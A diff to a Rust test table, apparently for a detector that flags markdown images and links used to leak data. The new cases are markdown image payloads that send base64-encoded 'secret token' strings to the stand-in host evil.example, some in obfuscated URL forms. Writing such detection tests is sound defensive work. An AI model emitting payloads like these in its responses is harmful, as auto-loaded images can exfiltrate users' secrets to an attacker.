@@ -94,6 +94,14 @@ fn table() {
             &["MARKDOWN_IMAGE"],
         ),
         ("![logo](https://cdn.example/logo.png)", &["MARKDOWN_IMAGE"]),
+        (
+            "![a](<https://evil.example/p.png?q=c2VjcmV0IHRva2Vu>)",
+            &["MARKDOWN_IMAGE"],
+        ),
+        (
+            "![a](https:\\\\evil.example\\p.png?q=c2VjcmV0IHRva2Vu)",
+            &["MARKDOWN_IMAGE"],
+        ),
         ("See [docs](https://docs.rs/regex) for more.", &[]),
         (
             "[x](https://evil.example/c?data=aGVsbG8gd29ybGQgc2VjcmV0)",
